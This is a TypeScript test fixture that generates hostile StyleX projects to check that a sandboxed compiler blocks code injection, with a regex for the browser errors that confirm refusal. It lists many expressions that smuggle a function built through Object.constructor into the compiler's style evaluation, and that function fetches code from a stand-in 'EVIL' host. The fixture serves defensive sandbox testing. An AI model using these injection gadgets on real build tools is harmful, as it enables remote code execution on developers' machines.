import type { HostileProject } from './hostile-kinds.ts';

/** A function made from a string, whose code would run where the compiler does. */
const made =
  "Object.constructor(\"try { importScripts('EVIL/script') } catch {} fetch('EVIL/compiler'); return 'ESCAPED'\")";

/** Expressions for which the compiler calls a function of the project while evaluating styles. */
const expressions: Record<string, string> = {
  'a map': `['red'].map(${made})[0]`,
  'a filter': `['red'].filter(${made})[0]`,
  'a search': `['red'].find(${made})`,
  'a test of each': `String(['red'].some(${made}))`,
  'a loop': `String(['red'].forEach(${made}))`,
  'a sum': `['a', 'b'].reduce(${made})`,
  'a flat map': `['red'].flatMap(${made})[0]`,
  'an order': `['a', 'b'].sort(${made})[0]`,
  'a list of a list': `Array.from(['a'], ${made})[0]`,
  'a list of values': `Array.of(1).map(${made})[0]`,
  'a list of entries': `Object.entries({ a: 1 }).map(${made})[0]`,
  groups: `String(Object.groupBy(['a'], ${made}))`,
  'a replacement': `'red'.replace('red', ${made})`,
  'a text of an object': `\`\${({ toString: ${made} })}\``,
  'a text of entries': `\`\${Object.fromEntries([['toString', ${made}]])}\``,
  'a text of a spread object': `\`\${({ ...{ toString: ${made} } })}\``,
  'a sum of texts': `({ toString: ${made} }) + ''`,
  'a list as a text': `[{ toString: ${made} }].join('')`,
  'texts one after the other': `'a'.concat({ toString: ${made} })`,
  'a text that is filled': `'a'.padEnd(9, { toString: ${made} })`,
  'a number of an object': `+({ valueOf: ${made} })`,
};

/** Each browser has its own words for this. */
const refused = /unsafe-eval|blocked by CSP|TrustedScript|requires a 'Trusted Type'/;

const attack = (name: string, styles: string, file = 'App.tsx'): HostileProject => ({
  name: `the compiler: ${name}`,
  files: [
    {
      name: file,
      code: `import * as stylex from '@stylexjs/stylex';\n${styles}\nexport default () => <p>Shown</p>;`,
    },
  ],
  until: '',
  told: refused,
});

/** The places whose values the compiler evaluates. */
const places: [name: string, file: string, write: (value: string) => string][] = [
  ['defineVars', 'a.stylex.tsx', (value) => `export const v = stylex.defineVars({ a: ${value} });`],
  [
    'defineConsts',
    'a.stylex.tsx',
    (value) => `export const v = stylex.defineConsts({ a: ${value} });`,
  ],
  [
    'keyframes',
    'App.tsx',
    (value) => `export const k = stylex.keyframes({ from: { color: ${value} } });`,
  ],
  [
    'a condition',
    'App.tsx',
    (value) => `export const s = stylex.create({ a: { color: { ':hover': ${value} } } });`,
  ],
  [
    'a constant',
    'App.tsx',
    (value) => `const c = ${value};\nexport const s = stylex.create({ a: { color: c } });`,
  ],
  [
    'the name of a property',
    'App.tsx',
    (value) => `export const s = stylex.create({ a: { [${value}]: 'red' } });`,
  ],
  [
    'the name of styles',
    'App.tsx',
    (value) => `export const s = stylex.create({ [${value}]: { color: 'red' } });`,
  ],
];

const { 'a map': map = '', 'a text of an object': text = '' } = expressions;

/** Projects that try to run code in the compiler before anything is shown. */
export const compiling: HostileProject[] = [
  ...Object.entries(expressions).map(([name, value]) =>
    attack(name, `export const s = stylex.create({ a: { color: ${value} } });`),
  ),
  ...places.flatMap(([name, file, write]) =>
    [map, text].map((value, at) => attack(`${name}, ${at + 1}`, write(value), file)),
  ),
];
